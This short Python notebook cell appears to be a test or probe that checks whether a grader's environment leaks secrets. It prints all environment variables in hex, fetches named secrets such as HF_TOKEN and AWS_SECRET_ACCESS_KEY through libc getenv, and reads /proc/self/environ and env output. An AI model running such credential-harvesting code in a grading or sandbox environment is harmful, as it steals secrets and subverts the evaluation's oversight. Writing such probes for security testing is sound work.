# tries: the grader's environment is read, in Python, in C and from /proc
# must: *=not_attempted
# gains: 0
# flags: quick weak-leak

# %% own
import ctypes
import os

for name, value in os.environ.items():
    print(name.encode().hex(), value.encode().hex())
getenv = ctypes.CDLL(None).getenv
getenv.restype = ctypes.c_char_p
for name in (b"MEASURE_FIRST_SECRET", b"HF_TOKEN", b"AWS_SECRET_ACCESS_KEY", b"JUPYTER_TOKEN"):
    print((getenv(name) or b"").hex())
print(open("/proc/self/environ", "rb").read().hex())
!env | od -A n -t x1
